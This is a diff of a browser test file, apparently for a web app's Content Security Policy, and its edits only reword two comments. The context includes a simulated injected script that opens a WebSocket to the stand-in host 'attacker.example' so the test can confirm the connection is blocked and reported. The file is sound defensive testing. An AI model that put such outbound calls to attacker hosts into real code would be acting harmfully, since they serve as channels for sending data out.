@@ -35,7 +35,7 @@ test.describe('a script that got into the page', () => {
       try {
         new WebSocket('wss://attacker.example/');
       } catch {
-        // Some browsers throw, others tell by an event; the directive is told in both cases.
+        // Some browsers throw, others fire an event; the directive is reported in both cases.
       }
       // From a timer: what a test evaluates itself may evaluate more.
       const evaluated = await new Promise<string>((done) => {
@@ -107,7 +107,7 @@ test('the built page names no other place and has nothing inline', async () => {
   expect(sheets).not.toEqual([]);
   for (const name of sheets) {
     const text = await readFile(join(built, 'assets', name), 'utf8');
-    // A picture that is written into the sheet may name the namespace of SVG, which nobody fetches.
+    // A picture that is written into the sheet may name the namespace of SVG, which is never fetched.
     const addresses = [...text.matchAll(/url\(\s*["']?([^)"']*)/g)].map(([, address = '']) => address);
     expect(addresses.filter((address) => /^(https?:)?\/\//.test(address))).toEqual([]);
     expect(text).not.toMatch(/@import\s+["']?(https?:)?\/\//);
